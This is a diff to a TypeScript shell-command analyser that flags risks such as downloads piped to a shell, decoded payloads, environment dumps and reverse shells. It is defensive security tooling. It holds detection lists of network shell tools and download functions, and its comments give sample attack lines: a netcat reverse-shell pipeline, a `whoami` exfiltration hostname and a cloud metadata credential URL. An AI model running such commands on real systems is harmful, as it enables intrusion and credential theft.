@@ -8,8 +8,8 @@
  */
 import { basename, resolveLexical } from '../paths/paths';
 import { DYN, type CommandFact, type RiskKind, type UrlFact } from '../types';
-import type { Invocation, Producer, ShellAnalyzer, State, Stdin } from './analyze';
-import type { Field } from './expand';
+import type { FileOrigin, Invocation, Producer, ShellAnalyzer, State, Stdin } from './analyze';
+import type { Field, Taint } from './expand';
 import { allValues, has, parseArgs, value, type OptSpec, type ParsedArgs } from './options';
 
 type Handler = (a: ShellAnalyzer, inv: Invocation) => void;
@@ -21,6 +21,9 @@ const on = (names: string | string[], h: Handler): void => {
 
 export function dispatch(a: ShellAnalyzer, inv: Invocation, dynamicProgram: boolean): void {
   if (dynamicProgram) return generic(a, inv);
+  if (inv.invokedAs.includes('/') && a.fileOrigin(inv.st, inv.invokedAs)) {
+    executeFile(a, inv, f(inv.invokedAs), inv.invokedAs, 'shell');
+  }
   const name = inv.program;
   const h = HANDLERS.get(name) ?? HANDLERS.get(versionless(name));
   if (h) h(a, inv);
@@ -59,16 +62,17 @@ function readAll(a: ShellAnalyzer, inv: Invocation, fields: readonly Field[], vi
 /** Run fields as a command (for wrappers), one nesting level deeper. */
 function wrap(a: ShellAnalyzer, inv: Invocation, fields: Field[], label: string, env: Record<string, string> = inv.env, st: State = inv.st): void {
   if (!fields.length) return;
-  a.exec(fields, st, { env, stdin: inv.stdin, via: [...inv.via, label], depth: inv.depth + 1 });
+  a.exec(fields, st, { env, stdin: inv.stdin, via: [...inv.via, label], depth: inv.depth + 1, bypassFunctions: label === 'command' || label === 'builtin' });
 }
 
 /** Analyse text a program runs as a shell script; by default it reads the program's standard input. */
-function runText(a: ShellAnalyzer, inv: Invocation, text: Field | string, label: string, stdin: Stdin = inv.stdin): void {
+function runText(a: ShellAnalyzer, inv: Invocation, text: Field | string, label: string, stdin: Stdin = inv.stdin, positional?: { zero?: Field; args: Field[] }): void {
   const fld = typeof text === 'string' ? f(text) : text;
-  if (fld.dynamic) {
-    a.risk('dynamic-eval', `${label} runs text computed at run time: ${fld.text}`);
-  }
-  a.runText(fld.text, a.clone(inv.st), [...inv.via, label], inv.depth + 1, label, stdin);
+  if (fld.taint) a.risk(fld.taint === 'download' ? 'download-to-shell' : 'decoded-to-shell', `${label} runs text from ${fld.taint === 'download' ? 'a download' : 'a decoded payload'}: ${fld.text}`);
+  else if (fld.dynamic) a.risk('dynamic-eval', `${label} runs text computed at run time: ${fld.text}`);
+  const st = a.clone(inv.st);
+  if (positional) a.bindPositional(st, positional.args, positional.zero);
+  a.runText(fld.text, st, [...inv.via, label], inv.depth + 1, label, stdin);
 }
 
 function looksLikeUrl(t: string): boolean {
@@ -83,7 +87,11 @@ export function urlFact(raw: string, via: string, defaultScheme = 'http'): UrlFa
   }
   const m = /^([a-zA-Z][a-zA-Z0-9+.-]*):\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^:/?#]*)(?::(\d+))?/.exec(text);
   if (!m) return null;
-  const host = m[2]!.replace(/^\[|\]$/g, '').toLowerCase().replace(/\.$/, '');
+  // A host followed by a computed part (`http://169.254.170.2$URI`) is matched on the part that is known;
+  // a computed part inside the host (`$(whoami).exfil.example`) stays in it.
+  let host = m[2]!.replace(/^\[|\]$/g, '').toLowerCase();
+  if (host.endsWith(DYN) && host.length > DYN.length) host = host.slice(0, host.indexOf(DYN));
+  host = host.replace(/\.$/, '') || DYN;
   const fact: UrlFact = { url: text, host: normalizeHost(host), scheme: m[1]!.toLowerCase(), via };
   if (m[3]) fact.port = Number(m[3]);
   return fact;
@@ -129,10 +137,18 @@ function stdinSends(stdin: Stdin): UrlFact['sends'] | undefined {
     case 'file':
       return 'file';
     case 'text':
-      return stdin.dynamic ? 'env' : 'literal';
+      return stdin.from?.subst ? 'substitution' : stdin.dynamic || stdin.from?.vars ? 'env' : 'literal';
     case 'pipe':
-      return stdin.producers.some((p) => p.files?.length) ? 'file' : 'stdin';
+      return stdin.producers.some((p) => p.reads || p.files?.length) ? 'file' : 'stdin';
   }
+}
+
+/** The stronger of two ways data is sent (a file beats command output beats the environment…). */
+function strongerSends(a: UrlFact['sends'], b: UrlFact['sends']): UrlFact['sends'] {
+  const rank = { literal: 0, stdin: 1, env: 2, substitution: 3, file: 4 };
+  if (!a) return b;
+  if (!b) return a;
+  return rank[b] > rank[a] ? b : a;
 }
 
 // ── stdin classification (what a shell or interpreter would execute) ──────
@@ -169,7 +185,8 @@ const DECODERS: Record<string, (args: string[]) => boolean> = {
 export type ScriptSource =
   | { kind: 'text'; text: string; dynamic: boolean }
   | { kind: 'file'; path: string }
-  | { kind: 'risk'; risk: RiskKind; detail: string }
+  /** A risk; `text` when the payload could still be recovered statically (a decoded literal). */
+  | { kind: 'risk'; risk: RiskKind; detail: string; text?: { text: string; dynamic: boolean } }
   | { kind: 'none' };
 
 export function classifyStdin(stdin: Stdin): ScriptSource {
@@ -177,42 +194,91 @@ export function classifyStdin(stdin: Stdin): ScriptSource {
     case 'none':
       return { kind: 'none' };
     case 'text':
+      if (stdin.taint) return { kind: 'risk', risk: stdin.taint === 'download' ? 'download-to-shell' : 'decoded-to-shell', detail: `text from ${stdin.taint === 'download' ? 'a download' : 'a decoded payload'}`, text: { text: stdin.text, dynamic: stdin.dynamic } };
       return { kind: 'text', text: stdin.text, dynamic: stdin.dynamic };
     case 'file':
+      if (stdin.dynamic) return { kind: 'risk', risk: 'dynamic-shell-input', detail: `runs a file whose name is computed at run time (${stdin.path})` };
       return { kind: 'file', path: stdin.path };
     case 'pipe':
       return classifyProducers(stdin.producers);
   }
 }
 
-function classifyProducers(producers: Producer[]): ScriptSource {
-  const net = producers.find((p) => NETWORK_PRODUCERS.has(p.program) || p.risks.includes('interpreter-inline-net') || p.risks.includes('download-to-shell'));
+/** Whether a download or a decoded payload reaches this standard input (used for `$(…)` taint). */
+export function stdinTaint(stdin: Stdin): Taint | undefined {
+  if (stdin.kind === 'text') return stdin.taint;
+  if (stdin.kind !== 'pipe') return undefined;
+  const src = classifyProducers(stdin.producers);
+  if (src.kind === 'risk' && src.risk === 'download-to-shell') return 'download';
+  if (src.kind === 'risk' && src.risk === 'decoded-to-shell') return 'decoded';
+  return undefined;
+}
+
+const isNetworkProducer = (p: Producer): boolean =>
+  NETWORK_PRODUCERS.has(p.program) || !!p.netInput || p.origin?.kind === 'download' || p.risks.includes('interpreter-inline-net') || p.risks.includes('download-to-shell');
+
+export function classifyProducers(producers: Producer[]): ScriptSource {
+  const net = producers.find(isNetworkProducer);
   if (net) return { kind: 'risk', risk: 'download-to-shell', detail: `output of ${net.program} ${net.args.join(' ')}`.trim() };
-  const dec = producers.find((p) => DECODERS[p.program]?.(p.args) || p.risks.includes('decoded-to-shell'));
-  if (dec) return { kind: 'risk', risk: 'decoded-to-shell', detail: `decoded output of ${dec.program} ${dec.args.join(' ')}`.trim() };
   const last = producers[producers.length - 1];
+  const dec = producers.find((p) => DECODERS[p.program]?.(p.args) || p.origin?.kind === 'decoded' || p.risks.includes('decoded-to-shell'));
+  if (dec) {
+    const src: ScriptSource = { kind: 'risk', risk: 'decoded-to-shell', detail: `decoded output of ${dec.program} ${dec.args.join(' ')}`.trim() };
+    if (last?.output !== undefined) src.text = { text: last.output, dynamic: !!last.outputDynamic };
+    return src;
+  }
   if (last && last.output !== undefined) return { kind: 'text', text: last.output, dynamic: !!last.outputDynamic };
   if (last?.files?.length === 1) return { kind: 'file', path: last.files[0]! };
   const names = producers.map((p) => p.program).join(' | ') || 'unknown producer';
   return { kind: 'risk', risk: 'dynamic-shell-input', detail: `runs the output of ${names}` };
 }
 
+const SHELL_NAMES = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'fish', 'tcsh', 'csh']);
+const SOCKET_TOOLS = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'socat', 'telnet', 'openssl', 'cryptcat', 'pwncat']);
+
+/**
+ * Risks only a whole pipeline shows: a shell reading commands from a pipe that also contains a socket
+ * tool is a reverse or bind shell (`cat fifo | sh -i | nc host port > fifo`).
+ */
+export function pipelineRisks(stages: Producer[][]): { kind: RiskKind; detail: string }[] {
+  const all = stages.flat();
+  const shell = all.find((p) => SHELL_NAMES.has(p.program) && !p.args.some((a) => /^-[a-zA-Z]*c/.test(a)) && !p.args.some((a) => !a.startsWith('-')));
+  const socket = all.find((p) => SOCKET_TOOLS.has(p.program));
+  if (shell && socket) return [{ kind: 'network-shell', detail: `${shell.program} is wired to ${socket.program} ${socket.args.join(' ')}`.trim() }];
+  return [];
+}
+
 /** A shell or interpreter executes a script from `src`. */
 function executeSource(a: ShellAnalyzer, inv: Invocation, src: ScriptSource, label: string, lang: 'shell' | 'inline'): void {
+  const run = (text: string, dynamic: boolean): void => {
+    if (lang === 'shell') runText(a, inv, { text, dynamic }, label, { kind: 'none' });
+    else inlineCode(a, inv, text, label, dynamic);
+  };
   switch (src.kind) {
     case 'none':
       return;
     case 'text':
-      if (lang === 'shell') runText(a, inv, { text: src.text, dynamic: src.dynamic }, label);
-      else inlineCode(a, inv, src.text, label);
-      return;
+      return run(src.text, src.dynamic);
     case 'file':
-      a.path(f(src.path), 'exec', `${label} script`, inv.st);
-      a.path(f(src.path), 'read', `${label} script`, inv.st);
-      return;
+      return executeFile(a, inv, f(src.path), label, lang);
     case 'risk':
       a.risk(src.risk, `${label}: ${src.detail}`);
+      if (src.text) run(src.text.text, src.text.dynamic);
   }
+}
+
+/**
+ * A script file is executed (bash x.sh, ./x.sh, source x.sh, python x.py): a path fact, and when this
+ * very command line wrote the file, what it wrote: literal text is analysed, a download or a decoded
+ * payload is the corresponding risk.
+ */
+function executeFile(a: ShellAnalyzer, inv: Invocation, file: Field, label: string, lang: 'shell' | 'inline'): void {
+  a.path(file, 'exec', `${label} script`, inv.st);
+  a.path(file, 'read', `${label} script`, inv.st);
+  const origin = a.fileOrigin(inv.st, file);
+  if (!origin) return;
+  if (origin.kind === 'text') executeSource(a, inv, { kind: 'text', text: origin.text, dynamic: origin.dynamic }, `${label} ${file.text}`, lang);
+  else a.risk(origin.kind === 'download' ? 'download-to-shell' : 'decoded-to-shell', `${label} runs ${file.text}, written from ${origin.detail}`);
 }
 
 // ── generic and "no file" programs ──────────────────────────────────────
@@ -303,17 +369,19 @@ on(['realpath', 'readlink', 'stat', 'ls', 'tree', 'du', 'df', 'file', 'lsattr', 
 on(['printenv', 'compgen'], (a, inv) => {
   const p = parseArgs(inv.args);
   emit(a, inv, p);
-  if (inv.program === 'printenv' && p.operands.length) {
-    a.risk('env-dump', `printenv ${p.operands.map((o) => o.text).join(' ')}`);
-    return;
-  }
+  // `printenv NAME` prints one variable, like `echo "$NAME"`; only a whole dump is a risk.
+  if (inv.program === 'printenv' && p.operands.length) return;
   if (inv.program === 'printenv' || has(p, '-v', '-e', '-A')) a.risk('env-dump', `${inv.program} prints the environment`);
 });
 
 on('set', (a, inv) => {
-  const p = parseArgs(inv.args);
+  const p = parseArgs(inv.args, { short: 'o' });
   emit(a, inv, p);
   if (!inv.args.length) a.risk('env-dump', 'set with no arguments prints every variable');
+  // `set -- a b` and `set a b` (after options) replace the positional parameters.
+  const dd = inv.args.findIndex((x) => x.text === '--');
+  if (dd >= 0) a.bindPositional(inv.st, inv.args.slice(dd + 1));
+  else if (p.operands.length) a.bindPositional(inv.st, p.operands);
 });
 
 on(['export', 'declare', 'typeset', 'local', 'readonly'], (a, inv) => {
@@ -328,14 +396,19 @@ on(['export', 'declare', 'typeset', 'local', 'readonly'], (a, inv) => {
     const eq = op.text.indexOf('=');
     const name = eq < 0 ? op.text : op.text.slice(0, eq);
     if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) continue;
+    const exporting = inv.program === 'export' || has(p, '-x');
+    if (exporting) inv.st.exported.add(name);
     if (eq >= 0) {
       const val = op.text.slice(eq + 1);
       a.setVar(inv.st, name, op.dynamic ? { v: [], dyn: true } : { v: [val], dyn: false });
-      a.envFact({ name, value: op.dynamic ? DYN : val, via: inv.program === 'export' ? 'export' : 'assignment' });
+      a.envFact({ name, value: op.dynamic ? DYN : val, via: exporting ? 'export' : 'assignment' });
       if (name === 'PATH') a.risk('shell-state-change', `${inv.program} PATH=${val}`);
-    } else if (inv.program === 'export') {
+      if (exporting && !op.dynamic) a.loaderEnv({ [name]: val }, inv.st);
+    } else if (exporting) {
       const cur = a.varOf(inv.st, name);
-      a.envFact({ name, value: cur.v.length === 1 && !cur.dyn ? cur.v[0]! : DYN, via: 'export' });
+      const val = cur.v.length === 1 && !cur.dyn ? cur.v[0]! : DYN;
+      a.envFact({ name, value: val, via: 'export' });
+      a.loaderEnv({ [name]: val }, inv.st);
     }
   }
 });
@@ -351,9 +424,18 @@ on('read', (a, inv) => {
   const p = parseArgs(inv.args, { short: 'adinNptu' });
   emit(a, inv, p);
   const names = p.operands.length ? p.operands : [f('REPLY')];
-  for (const n of names) if (!n.dynamic) a.setVar(inv.st, n.text, { v: [], dyn: true });
+  // With a known input (here-string, here-doc, echo upstream) the first line is split over the names.
+  const input = stdinText(inv.stdin);
+  const line = input && !input.dynamic && !value(p, '-u') ? (input.text.split('\n')[0] ?? '') : undefined;
+  const words = line === undefined ? undefined : has(p, '-r') ? line.trim().split(/[ \t]+/) : line.replace(/\\(.)/g, '$1').trim().split(/[ \t]+/);
+  names.forEach((n, i) => {
+    if (n.dynamic) return;
+    if (!words) return a.setVar(inv.st, n.text, { v: [], dyn: true });
+    const v = i === names.length - 1 ? words.slice(i).join(' ') : words[i] ?? '';
+    a.setVar(inv.st, n.text, { v: [v], dyn: false });
+  });
   const arr = value(p, '-a');
-  if (arr && !arr.dynamic) a.setVar(inv.st, arr.text, { v: [], dyn: true });
+  if (arr && !arr.dynamic) a.setVar(inv.st, arr.text, words ? { v: [words.join('\u0000')], dyn: false } : { v: [], dyn: true });
 });
 
 on(['alias'], (a, inv) => {
@@ -394,7 +476,15 @@ on(['fc', 'history'], (a, inv) => {
 
 function resolveDirs(a: ShellAnalyzer, st: State, target: Field): { v: string[]; dyn: boolean } {
   if (target.dynamic || target.glob) return { v: [], dyn: true };
-  return { v: a.cwdList(st).map((base) => resolveLexical(base, target.text)), dyn: st.cwd.dyn };
+  const v = a.cwdList(st).map((base) => resolveLexical(base, target.text));
+  let dyn = st.cwd.dyn;
+  // A relative target not starting with ./ or ../ may also be found through CDPATH.
+  if (!/^(\/|\.\.?(\/|$))/.test(target.text)) {
+    const cdpath = a.varOf(st, 'CDPATH');
+    if (cdpath.dyn) dyn = true;
+    for (const entry of cdpath.v.flatMap((x) => x.split(':'))) if (entry) v.push(...a.cwdList(st).map((base) => resolveLexical(resolveLexical(base, entry), target.text)));
+  }
+  return { v: [...new Set(v)], dyn };
 }
 
 on(['cd', 'chdir'], (a, inv) => {
@@ -544,7 +634,8 @@ on(['su', 'runuser'], (a, inv) => {
 });
 
 on('env', (a, inv) => {
-  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'uCS', long: ['unset', 'chdir', 'split-string', 'block-signal', 'default-signal', 'ignore-signal'], groups: [['-i', '--ignore-environment']] });
+  // A lone `-` is the old spelling of -i.
+  const p = parseArgs(inv.args.map((x) => (x.text === '-' ? { ...x, text: '-i' } : x)), { stopAtOperand: true, short: 'uCS', long: ['unset', 'chdir', 'split-string', 'block-signal', 'default-signal', 'ignore-signal'], groups: [['-i', '--ignore-environment']] });
   let rest = p.rest;
   const env: Record<string, string> = { ...inv.env };
   while (rest[0] && /^[A-Za-z_][A-Za-z0-9_]*=/.test(rest[0].text)) {
@@ -604,6 +695,7 @@ on('xargs', (a, inv) => {
     stopAtOperand: true,
     short: 'adELlnPsI',
     shortOptional: 'ei',
+    digits: '0',
     long: ['arg-file', 'delimiter', 'eof', 'replace', 'max-lines', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
   });
   emit(a, inv, p);
@@ -619,14 +711,33 @@ on('xargs', (a, inv) => {
   }
 });
 
-/** Items a command gets on stdin when the text is statically known (xargs). */
+/**
+ * Items a command gets on stdin (xargs, parallel): the words when the text is statically known; names
+ * listed by `ls` or `find` upstream as a pattern over where they come from (grep filters in between only
+ * narrow that down); else nothing known.
+ */
 function stdinItems(stdin: Stdin): Field[] {
   if (stdin.kind === 'text' && !stdin.dynamic) return stdin.text.split(/\s+/).filter(Boolean).map(f);
-  if (stdin.kind === 'pipe') {
-    const last = stdin.producers[stdin.producers.length - 1];
-    if (last?.output !== undefined && !last.outputDynamic) return last.output.split(/\s+/).filter(Boolean).map(f);
+  if (stdin.kind !== 'pipe') return [];
+  const last = stdin.producers[stdin.producers.length - 1];
+  if (last?.output !== undefined && !last.outputDynamic) return last.output.split(/\s+/).filter(Boolean).map(f);
+  const source = stdin.producers.find((p) => p.program === 'ls' || p.program === 'find');
+  if (!source) return [];
+  if (source.program === 'ls') {
+    const dirs = source.args.filter((x) => !x.startsWith('-'));
+    const all = source.args.some((x) => /^-[a-zA-Z]*[aA]/.test(x) || x === '--all' || x === '--almost-all');
+    return (dirs.length ? dirs : ['.']).map((d) => ({ text: DYN, dynamic: false, glob: `${d.replace(/\/+$/, '')}/${all ? '{*,.*}' : '*'}` }));
   }
-  return [];
+  const roots: string[] = [];
+  for (const x of source.args) {
+    if (/^[-(!,]/.test(x)) break;
+    roots.push(x);
+  }
+  const nameAt = source.args.findIndex((x) => x === '-name' || x === '-iname');
+  const name = nameAt >= 0 ? source.args[nameAt + 1] : undefined;
+  return (roots.length ? roots : ['.']).map((r) =>
+    name && !name.includes('/') ? { text: DYN, dynamic: false, glob: `${r.replace(/\/+$/, '')}/**/${name}`, noExpand: true } : f(`${r.replace(/\/+$/, '')}/${DYN}`),
+  );
 }
 
 on('parallel', (a, inv) => {
@@ -662,10 +773,23 @@ on('find', (a, inv) => {
     const t = expr[j]!.text;
     if ((t === '-name' || t === '-iname' || t === '-path' || t === '-wholename' || t === '-ipath') && expr[j + 1]) names.push(expr[j + 1]!.text);
   }
+  const name = names.find((n) => !n.includes('/'));
+  // What `{}` stands for: every path find reports below a root (a pattern), and the root itself unless
+  // -mindepth says otherwise.
   const pattern = (root: Field): Field => {
     const base = root.text.replace(/\/+$/, '');
-    const name = names.find((n) => !n.includes('/'));
-    return { text: DYN, dynamic: false, glob: `${base}/**${name ? `/${name}` : ''}`, globDot: true };
+    return { text: DYN, dynamic: false, glob: `${base}/**${name ? `/${name}` : ''}`, noExpand: true };
+  };
+  // The root is among find's results unless -mindepth skips it or a -name filter does not match it.
+  const nameRe = name ? new RegExp(`^${name.replace(/[.+^${}()|\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.')}$`) : undefined;
+  const includesRoot = (root: Field): boolean =>
+    !expr.some((x, k) => x.text === '-mindepth' && Number(expr[k + 1]?.text) > 0) && (!names.length || (!!nameRe && nameRe.test(basename(root.text) || '/')));
+  const embedded = (root: Field, text: string): Field[] => {
+    const base = root.text.replace(/\/+$/, '');
+    const below = `${base}/${DYN}${name && !/[*?[]/.test(name) ? `/${name}` : ''}`;
+    const out = [{ text: text.split('{}').join(below), dynamic: true }];
+    if (includesRoot(root)) out.push({ text: text.split('{}').join(root.text), dynamic: root.dynamic });
+    return out;
   };
   for (let j = 0; j < expr.length; j++) {
     const t = expr[j]!.text;
@@ -675,13 +799,13 @@ on('find', (a, inv) => {
       while (k < expr.length && expr[k]!.text !== ';' && expr[k]!.text !== '+') cmd.push(expr[k++]!);
       j = k;
       for (const r of roots) {
-        const fields = cmd.map((c) => (c.text === '{}' ? pattern(r) : c.text.includes('{}') ? { text: c.text.split('{}').join(DYN), dynamic: true } : c));
-        wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, `find ${t}`);
+        const variants: Field[][] = [cmd.map((c) => (c.text === '{}' ? pattern(r) : c.text.includes('{}') ? embedded(r, c.text)[0]! : c))];
+        if (includesRoot(r)) variants.push(cmd.map((c) => (c.text.includes('{}') ? { ...c, text: c.text.split('{}').join(r.text), dynamic: c.dynamic || r.dynamic } : c)));
+        for (const fields of variants) wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, `find ${t}`);
       }
     } else if (t === '-delete') {
       for (const r of roots) {
-        const pat = pattern(r);
-        if (names.length) a.path(pat, 'delete', 'find -delete', inv.st);
+        if (names.length) a.path(pattern(r), 'delete', 'find -delete', inv.st, { recursive: true });
         else a.path(r, 'delete', 'find -delete', inv.st, { recursive: true });
       }
     } else if ((t === '-fprint' || t === '-fprint0' || t === '-fprintf' || t === '-fls') && expr[j + 1]) {
@@ -700,8 +824,9 @@ function shellHandler(a: ShellAnalyzer, inv: Invocation): void {
   const commandMode = p.flags.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x)) || has(p, '--command');
   for (const rc of allValues(p, '--rcfile', '--init-file')) a.path(rc, 'exec', `${inv.program} rcfile`, inv.st);
   if (commandMode) {
-    const script = p.rest[0];
-    if (script) runText(a, inv, script, `${inv.program} -c`);
+    // sh -c 'script' NAME ARG…: NAME is $0, the rest $1…
+    const [script, zero, ...args] = p.rest;
+    if (script) runText(a, inv, script, `${inv.program} -c`, inv.stdin, zero ? { zero, args } : { args: [] });
     return;
   }
   if (p.rest.length && !has(p, '-s')) {
@@ -714,8 +839,7 @@ function shellHandler(a: ShellAnalyzer, inv: Invocation): void {
       executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
       return;
     }
-    a.path(script, 'exec', `${inv.program} script`, inv.st);
-    a.path(script, 'read', `${inv.program} script`, inv.st);
+    executeFile(a, inv, script, inv.program, 'shell');
     return;
   }
   executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
@@ -731,7 +855,8 @@ on('busybox', (a, inv) => {
 on('eval', (a, inv) => {
   emit(a, inv, parseArgs([]));
   const text = inv.args.map((x) => x.text).join(' ');
-  runText(a, inv, { text, dynamic: inv.args.some((x) => x.dynamic) }, 'eval');
+  const taint = inv.args.find((x) => x.taint)?.taint;
+  runText(a, inv, { text, dynamic: inv.args.some((x) => x.dynamic), ...(taint ? { taint } : {}) }, 'eval');
 });
 
 on(['source', '.'], (a, inv) => {
@@ -747,8 +872,7 @@ on(['source', '.'], (a, inv) => {
     executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
     return;
   }
-  a.path(file, 'read', `${inv.program} file`, inv.st);
-  a.path(file, 'exec', `${inv.program} file`, inv.st);
+  executeFile(a, inv, file, inv.program, 'shell');
 });
 
 // ── interpreters ────────────────────────────────────────────────────────
@@ -774,7 +898,7 @@ const INTERPRETERS: Record<string, InterpreterSpec> = {
   bun: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'preload', 'env-file'] },
   deno: { code: [], short: '', long: ['allow-read', 'allow-write', 'allow-net', 'config', 'import-map'] },
   ruby: { code: ['-e'], short: 'eIrCEFx' },
-  perl: { code: ['-e', '-E'], short: 'eEIMmlCd0x' },
+  perl: { code: ['-e', '-E'], short: 'eEIMmlCdx' },
   php: { code: ['-r', '-B', '-R', '-E'], short: 'rBREcdfzt' },
   lua: { code: ['-e'], short: 'el' },
   luajit: { code: ['-e'], short: 'elj' },
@@ -789,9 +913,9 @@ const INTERPRETERS: Record<string, InterpreterSpec> = {
   'powershell.exe': { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand'], short: '' },
 };
 
-const EXEC_RE = /\b(os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|Popen|pty\.spawn|commands\.getoutput|child_process|execSync|execFileSync|spawnSync|execFile|exec\s*\(|spawn\s*\(|system\s*\(|popen\s*\(|proc_open|shell_exec|passthru|`[^`]+`|qx[({\/]|Runtime\.getRuntime|ProcessBuilder|Deno\.(run|Command)|Bun\.spawn|Start-Process|Invoke-Expression|iex\b|do shell script|IO\.popen|Kernel\.exec|Open3)/;
+const EXEC_RE = /`[^`]+`|\b(os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|Popen|pty\.spawn|commands\.getoutput|child_process|execSync|execFileSync|spawnSync|execFile|exec\s*\(|spawn\s*\(|system\s*\(|popen\s*\(|proc_open|shell_exec|passthru|qx[({\/]|Runtime\.getRuntime|ProcessBuilder|Deno\.(run|Command)|Bun\.spawn|Start-Process|Invoke-Expression|iex\b|do shell script|IO\.popen|Kernel\.exec|Open3|os\.execute|io\.popen|do shell script|pcntl_exec)/;
 const FS_RE = /\b(open\s*\(|io\.open|os\.(remove|unlink|rmdir|rename|replace|makedirs|mkdir|chmod|chown|walk|listdir|scandir)|shutil\.|pathlib|Path\s*\(|readFile|writeFile|appendFile|createWriteStream|createReadStream|fs\.|require\(['"](node:)?fs['"]\)|from ['"](node:)?fs|unlink|rmSync|rmdirSync|File\.(open|read|write|delete)|IO\.(read|write)|fopen|file_get_contents|file_put_contents|readlines|glob\.|Deno\.(readTextFile|writeTextFile|remove|readFile|writeFile)|Bun\.(file|write)|Get-Content|Set-Content|Remove-Item|Out-File|io\.open|FileUtils)/;
-const NET_RE = /\b(socket|urllib|requests\.|http\.client|httpx|aiohttp|fetch\s*\(|https?\.(get|request)|require\(['"](node:)?(https?|net|dgram|tls)['"]\)|net\.connect|XMLHttpRequest|Net::HTTP|LWP|HTTP::Tiny|IO::Socket|curl_|fsockopen|WebSocket|smtplib|ftplib|paramiko|Invoke-WebRequest|Invoke-RestMethod|WebClient|URLSession|open-uri|TCPSocket)/;
+const NET_RE = /\b(socket|urllib|requests\.|http\.client|httpx|aiohttp|fetch\s*\(|https?\.(get|request)|require\(['"](node:)?(https?|net|dgram|tls)['"]\)|net\.connect|XMLHttpRequest|Net::HTTP|LWP|HTTP::Tiny|IO::Socket|curl_|fsockopen|WebSocket|smtplib|ftplib|paramiko|Invoke-WebRequest|Invoke-RestMethod|WebClient|URLSession|open-uri|TCPSocket|iwr|irm|DownloadString|DownloadFile|Net\.WebClient|Start-BitsTransfer|wget|curl)/;
 const WRITE_RE = /(['"](w|a|wb|ab|w\+|a\+|r\+)['"]|write|remove|unlink|rmtree|rmdir|rename|replace|mkdir|chmod|chown|copy|move|rmSync|appendFile|truncate|Set-Content|Remove-Item|Out-File|delete)/i;
 
 function interpreterHandler(a: ShellAnalyzer, inv: Invocation): void {
@@ -821,17 +945,24 @@ function interpreterHandler(a: ShellAnalyzer, inv: Invocation): void {
   if (name === 'deno' && p.rest[0]?.text === 'eval') code = p.rest[1];
   if (code) {
     inlineCode(a, inv, code.text, `${inv.program} inline code`, code.dynamic);
+    // The remaining arguments are the program's argv; perl/ruby -n/-p read them as input, -i rewrites them.
+    const files = p.rest.filter((x) => !x.text.startsWith('-'));
+    readAll(a, inv, files, `${inv.program} argument`);
+    if ((name === 'perl' || name === 'ruby') && p.flags.some((x) => /^-[a-zA-Z]*i/.test(x))) for (const x of files) a.path(x, 'write', `${inv.program} -i`, inv.st);
     return;
   }
-  if (mod) return;
+  if (mod) {
+    // python -m twine upload …: the module runs as the program of that name would.
+    wrap(a, inv, [{ ...mod, text: mod.text.split('.')[0]! }, ...p.rest], `${inv.program} -m`);
+    return;
+  }
   const script = name === 'deno' ? (p.rest[0]?.text === 'run' ? p.rest[1] : p.rest[0]) : p.rest[0];
   if (script && script.text !== '-') {
     if (script.procsub) {
       executeSource(a, inv, classifyStdin(a.procStdin(script.procsub, inv.st, inv.via, inv.depth)), inv.program, 'inline');
       return;
     }
-    a.path(script, 'exec', `${inv.program} script`, inv.st);
-    a.path(script, 'read', `${inv.program} script`, inv.st);
+    executeFile(a, inv, script, inv.program, 'inline');
     readAll(a, inv, (name === 'deno' && p.rest[0]?.text === 'run' ? p.rest.slice(2) : p.rest.slice(1)).filter((x) => !x.text.startsWith('-')), `${inv.program} argument`);
     return;
   }
@@ -843,24 +974,46 @@ on(Object.keys(INTERPRETERS), interpreterHandler);
  * Interpreter code given inline. Scans for process execution, file-system and network use; string literals
  * that look like paths become path facts; shell commands passed to system()/exec() are analysed as shell.
  */
-export function inlineCode(a: ShellAnalyzer, inv: Invocation, code: string, label: string, dynamic = false): void {
+export function inlineCode(a: ShellAnalyzer, inv: Invocation, code: string, label: string, dynamic = false, nesting = 0): void {
   a.risk('interpreter-inline', `${label}: ${truncate(code)}`);
   if (dynamic) a.risk('dynamic-eval', `${label} is computed at run time`);
   const exec = EXEC_RE.test(code);
   const fsUse = FS_RE.test(code);
   const net = NET_RE.test(code);
+  const evals = EVAL_RE.test(code);
   if (exec) a.risk('interpreter-inline-exec', `${label} runs processes`);
   if (fsUse) a.risk('interpreter-inline-fs', `${label} uses the file system`);
   if (net) a.risk('interpreter-inline-net', `${label} uses the network`);
+  if (ENV_DUMP_RE.test(code)) a.risk('env-dump', `${label} prints the environment`);
+  if (net && SHELL_SPAWN_RE.test(code)) a.risk('network-shell', `${label} connects a shell to the network`);
+  if (evals && net) a.risk('download-to-shell', `${label} evaluates code fetched from the network`);
+  if (evals && DECODE_RE.test(code)) a.risk('decoded-to-shell', `${label} evaluates a decoded payload`);
   const writes = WRITE_RE.test(code);
-  for (const lit of stringLiterals(code)) {
-    if (looksLikeUrl(lit)) addUrl(a, inv, lit, label);
-    if (!looksLikePath(lit)) continue;
+  const deletes = DELETE_RE.exec(code);
+  for (const raw of stringLiterals(code)) {
+    if (looksLikeUrl(raw)) addUrl(a, inv, raw, label);
+    if (!looksLikePath(raw)) continue;
+    const lit = raw === '~' || raw.startsWith('~/') ? a.env.home + raw.slice(1) : raw;
     a.path(f(lit), 'read', `${label} string`, inv.st);
     if (writes) a.path(f(lit), 'write', `${label} string`, inv.st);
+    if (deletes) a.path(f(lit), 'delete', `${label} ${deletes[0]}`, inv.st, { recursive: RECURSIVE_DELETE_RE.test(deletes[0]) });
   }
